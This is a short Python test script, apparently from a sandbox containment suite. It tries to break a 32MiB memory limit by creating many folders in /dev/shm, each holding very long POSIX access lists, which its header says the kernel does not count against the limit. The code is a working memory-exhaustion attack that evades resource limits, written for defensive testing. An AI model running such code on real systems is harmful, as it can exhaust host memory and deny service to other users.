# /// attack
# guarantee = "memory"
# summary = "Gives many folders long access lists: the kernel counts attributes of a tmpfs, but not these."
# reference = "acl(5), posix_acl_from_xattr in fs/posix_acl.c"
# success = "more than the limit lies in access lists"
# policy = { limits = { memory = "32MiB" } }
# refusal = { process = "denied EACCES", default = "errno" }
# ///

import os
import struct
import tempfile

from kit import attempt, succeeded

OWNER, USER, GROUP, MASK, OTHER, NOBODY = 1, 2, 4, 16, 32, 0xFFFFFFFF
ENTRIES = 8000


def entry(kind, who=NOBODY):
    return struct.pack("=HHI", kind, 7, who)


users = entry(USER, os.getuid()) * ENTRIES
acl = struct.pack("=I", 2) + entry(OWNER) + users + entry(GROUP) + entry(MASK) + entry(OTHER)
with tempfile.TemporaryDirectory(dir="/dev/shm") as folder:
    for number in range(1 + (18 << 20) // len(acl)):
        name = f"{folder}/{number}"
        os.mkdir(name)
        for kind in ("access", "default"):
            attempt(lambda name=name, kind=kind: os.setxattr(name, f"system.posix_acl_{kind}", acl), "ENOSPC")
succeeded()
